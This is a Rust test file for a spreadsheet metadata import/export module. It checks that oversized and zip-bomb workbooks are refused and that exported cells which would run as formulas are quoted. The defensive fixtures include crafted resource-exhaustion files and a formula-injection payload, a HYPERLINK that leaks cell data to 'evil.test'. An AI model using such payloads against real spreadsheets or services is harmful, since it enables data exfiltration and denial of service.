//! Files that must not hurt: workbooks whose cells, declared size, shared texts or parts are
//! larger than a reader may build, refused in words before anything is built; and CSV cells a
//! spreadsheet would run as formulas, quoted on export and read back as they were.

use serde_json::json;

use super::testing::{crafted_xlsx, ods, text, two_far_cells_xlsx, xlsx_part, zip_of};
use super::writing::{ExportColumn, ExportInfo, ExportRow, write_csv, write_xlsx};
use super::*;
use metadesk_base::i18n::Localizer;

fn refused(name: &str, bytes: &[u8]) -> String {
    read_sheet(name, bytes).unwrap_err().to_string()
}

/// Without the budget, this aborted the test process (a 512 GiB allocation).
#[test]
fn a_workbook_with_two_far_cells_is_refused_before_it_is_built() {
    let bytes = two_far_cells_xlsx();
    assert!(bytes.len() < 2_000, "{} bytes", bytes.len());
    let err = refused("far.xlsx", &bytes);
    assert!(
        err.contains("far.xlsx")
            && err.contains("1,048,576 rows")
            && err.contains("16,384 columns"),
        "{err}"
    );
    let err = workbook_rows("far.xlsx", &bytes).unwrap_err().to_string();
    assert!(err.contains("1,048,576 rows"), "{err}");
}

/// Without the budget: 20 million cells, some 2 GB and 15 s.
#[test]
fn a_wide_and_long_workbook_is_refused_and_a_long_narrow_one_read() {
    let far = crafted_xlsx(
        r#"<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Path</t></is></c></row><row r="200000"><c r="CV200000"><v>1</v></c></row></sheetData>"#,
        None,
    );
    let err = refused("wide.xlsx", &far);
    assert!(
        err.contains("200,000 rows") && err.contains("100 columns"),
        "{err}"
    );
    // The same far row in column B only: 400,000 cells, well within the budget.
    let narrow = crafted_xlsx(
        r#"<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Path</t></is></c><c r="B1" t="inlineStr"><is><t>dc:title</t></is></c></row><row r="200000"><c r="A200000" t="inlineStr"><is><t>/content/dam/a.jpg</t></is></c><c r="B200000" t="inlineStr"><is><t>A</t></is></c></row></sheetData>"#,
        None,
    );
    let sheet = read_sheet("narrow.xlsx", &narrow).unwrap();
    assert_eq!(sheet.rows.len(), 1);
    assert_eq!(sheet.rows[0].number, 200_000);
}

#[test]
fn a_declared_size_past_the_budget_is_refused_whatever_the_cells() {
    let declared = crafted_xlsx(
        r#"<dimension ref="A1:XFD1048576"/><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Path</t></is></c></row></sheetData>"#,
        None,
    );
    let err = refused("declared.xlsx", &declared);
    assert!(err.contains("16,384 columns"), "{err}");
}

/// Without the budget: a 414 KB list file with 10 million shared texts took 578 MB.
#[test]
fn millions_of_shared_texts_are_refused_for_a_list() {
    let strings = "<si><t/></si>".repeat(1_500_000);
    let bytes = crafted_xlsx(
        r#"<sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData>"#,
        Some(&strings),
    );
    assert!(bytes.len() < 200_000, "{} bytes", bytes.len());
    let err = workbook_rows("list.xlsx", &bytes).unwrap_err().to_string();
    assert!(
        err.contains("list.xlsx") && err.contains("more than 1,000,000 different texts"),
        "{err}"
    );
}

#[test]
fn a_part_that_unpacks_past_its_cap_is_refused() {
    // 65 MB of spaces in a worksheet: a few tens of KB zipped, over a list's 64 MB part cap.
    let mut sheet = b"<worksheet>".to_vec();
    sheet.resize(65 * 1024 * 1024, b' ');
    sheet.extend_from_slice(b"</worksheet>");
    let bytes = zip_of(&[("xl/worksheets/sheet1.xml", &sheet)]);
    let err = workbook_rows("bomb.xlsx", &bytes).unwrap_err().to_string();
    assert!(
        err.contains("bomb.xlsx") && err.contains("more than 64 MB"),
        "{err}"
    );
}

const MANIFEST: &str = r#"<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>"#;

#[test]
fn repeated_ods_rows_of_filled_cells_are_refused_and_libreoffice_padding_is_not() {
    let content = |rows: &str| {
        format!(
            r#"<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet><table:table table:name="S"><table:table-row><table:table-cell office:value-type="string"><text:p>Path</text:p></table:table-cell></table:table-row>{rows}</table:table></office:spreadsheet></office:body></office:document-content>"#
        )
    };
    let ods = |rows: &str| {
        let content = content(rows);
        zip_of(&[
            (
                "mimetype",
                b"application/vnd.oasis.opendocument.spreadsheet".as_slice(),
            ),
            ("META-INF/manifest.xml", MANIFEST.as_bytes()),
            ("content.xml", content.as_bytes()),
        ])
    };
    let repeated = ods(
        r#"<table:table-row table:number-rows-repeated="1000000"><table:table-cell office:value-type="float" office:value="1" table:number-columns-repeated="1000"><text:p>1</text:p></table:table-cell></table:table-row>"#,
    );
    let err = refused("repeat.ods", &repeated);
    assert!(
        err.contains("1,000,001 rows") && err.contains("1,000 columns"),
        "{err}"
    );
    // What LibreOffice writes after the data of every sheet: empty rows to the sheet's end.
    let padded = ods(
        r#"<table:table-row><table:table-cell office:value-type="string"><text:p>/content/dam/a.jpg</text:p></table:table-cell></table:table-row><table:table-row table:number-rows-repeated="1048574"><table:table-cell table:number-columns-repeated="1024"/></table:table-row>"#,
    );
    let sheet = read_sheet("padded.ods", &padded).unwrap();
    assert_eq!(sheet.rows.len(), 1);
    let rows = workbook_rows("padded.ods", &padded);
    assert!(rows.is_ok(), "{rows:?}");
}

#[test]
fn a_csv_past_the_budget_is_refused_as_it_is_read() {
    let mut csv = String::from("Path,dc:title,dc:description,dc:creator,dc:rights\n");
    let line = "/content/dam/a.jpg,a,b,c,d\n";
    csv.push_str(&line.repeat(800_001));
    let err = refused("huge.csv", csv.as_bytes());
    assert!(
        err.contains("huge.csv") && err.contains("5 columns"),
        "{err}"
    );
}

#[test]
fn an_excel_binary_workbook_is_refused_in_words() {
    let bytes = zip_of(&[("xl/workbook.bin", b"\x83\x01\x00".as_slice())]);
    let err = refused("book.xlsb", &bytes);
    assert!(err.contains("book.xlsb") && err.contains(".xlsb"), "{err}");
}

/// A `dc:title` column and an asset a title, named `{name}{i}` (`=name0`: a risky name too).
fn titled(titles: &[&str], name: &str) -> (Vec<ExportColumn>, Vec<ExportRow>) {
    let columns = vec![ExportColumn {
        property: "dc:title".into(),
        multi: false,
    }];
    let rows = titles
        .iter()
        .enumerate()
        .map(|(i, title)| ExportRow {
            path: format!("/content/dam/r/{i}.jpg"),
            name: format!("{name}{i}"),
            last_modified: None,
            values: vec![Some(json!(title))],
        })
        .collect();
    (columns, rows)
}

/// Without the quoting, the export wrote `=HYPERLINK(…)` as Excel runs it.
#[test]
fn csv_cells_a_spreadsheet_would_run_are_quoted_and_read_back_exactly() {
    let risky = [
        "=HYPERLINK(\"http://evil.test/?\"&A2,\"click\")",
        "+33 1 23 45 67 89",
        "-5",
        "@SUM(A1:A2)",
        "\tindented",
        "\rreturned",
        "'kept as typed",
        "'=quoted by hand",
    ];
    let (columns, rows) = titled(&risky, "=name");
    let bytes = write_csv(&Localizer::english(), &columns, &rows).unwrap();
    let text = String::from_utf8(bytes.clone()).unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    for (record, title) in reader.records().zip(risky) {
        let record = record.unwrap();
        for cell in record.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell Excel would run: {cell:?}"
            );
        }
        if title.starts_with(['=', '+', '-', '@', '\t', '\r', '\'']) && title != "'kept as typed" {
            assert_eq!(&record[3], format!("'{title}"));
        }
    }
    let sheet = read_sheet("risky.csv", &bytes).unwrap();
    assert_eq!(sheet.issues, vec![], "{:#?}", sheet.issues);
    let titles: Vec<CellValue> = sheet
        .rows
        .iter()
        .map(|r| r.cells[0].value.clone())
        .collect();
    let expected: Vec<CellValue> = risky
        .iter()
        .map(|t| CellValue::Set(vec![(*t).to_owned()]))
        .collect();
    // The tab and carriage return starts are trimmed as every cell is; the rest is exact.
    for ((got, want), title) in titles.iter().zip(&expected).zip(risky) {
        if title.starts_with(['\t', '\r']) {
            assert_eq!(got, &CellValue::Set(vec![title.trim().to_owned()]));
        } else {
            assert_eq!(got, want);
        }
    }
}

/// The one value of each row of a sheet read without a problem.
fn titles_read(name: &str, bytes: &[u8]) -> Vec<String> {
    let sheet = read_sheet(name, bytes).unwrap();
    assert_eq!(sheet.issues, vec![], "{:#?}", sheet.issues);
    let one = |r: &Row| match &r.cells[0].value {
        CellValue::Set(values) => values.join("|"),
        other => panic!("{other:?}"),
    };
    sheet.rows.iter().map(one).collect()
}

/// In a workbook the cell holds the value itself (no `'` shown in Excel), marked as text by
/// Excel's quote-prefix style, and reads back exactly; a `'` the value starts with survives.
/// Seen failing before `write_text` (no quote-prefix style: Excel ran `=…` once the cell was
/// edited).
#[test]
fn workbook_cells_a_spreadsheet_would_run_are_marked_text_and_read_back_exactly() {
    let risky = ["=Été", "-30% off in July", "+1", "@x", "'=typed", "'plain"];
    let (columns, rows) = titled(&risky, "");
    let info = ExportInfo {
        connection: "Stage".into(),
        folder: "/content/dam/r".into(),
        recursive: false,
        exported_at: "2026-11-27T10:00:00Z".into(),
    };
    let bytes = write_xlsx(&Localizer::english(), &info, &columns, &rows).unwrap();
    let xml = xlsx_part(&bytes, "xl/worksheets/sheet1.xml");
    assert!(xml.contains("<t>-30% off in July</t>"), "{xml}");
    assert!(xml.contains("<t>''=typed</t>"), "{xml}");
    assert!(
        xlsx_part(&bytes, "xl/styles.xml").contains("quotePrefix=\"1\""),
        "marked as text"
    );
    assert_eq!(titles_read("risky.xlsx", &bytes), risky);
}

/// The workbook saved from LibreOffice (`.ods`) reads back the same, and an older export's
/// `'` guard (kept in the cell by a workbook) goes. Seen failing before: the `'` was kept.
#[test]
fn an_ods_saved_from_libreoffice_reads_back_exactly_and_an_older_guard_goes() {
    let bytes = ods(&[
        vec![text("Path (key)"), text("Title (dc:title)")],
        vec![text("/content/dam/r/0.jpg"), text("=Été")],
        vec![text("/content/dam/r/1.jpg"), text("''=typed")],
        vec![text("/content/dam/r/2.jpg"), text("'-30% off in July")],
        vec![text("/content/dam/r/3.jpg"), text("'plain")],
    ]);
    assert_eq!(
        titles_read("lo.ods", &bytes),
        ["=Été", "'=typed", "-30% off in July", "'plain"]
    );
}

/// AEM's own Metadata Export CSV quotes nothing: a `'` it holds is the value's own.
#[test]
fn an_aem_csv_is_read_as_it_is() {
    let csv = "assetPath,dc:title{{String}}\n/content/dam/a.jpg,'=x\n";
    let sheet = read_sheet("metadata.csv", csv.as_bytes()).unwrap();
    assert_eq!(sheet.source.dialect, Dialect::Aem);
    assert_eq!(
        sheet.rows[0].cells[0].value,
        CellValue::Set(vec!["'=x".into()])
    );
}
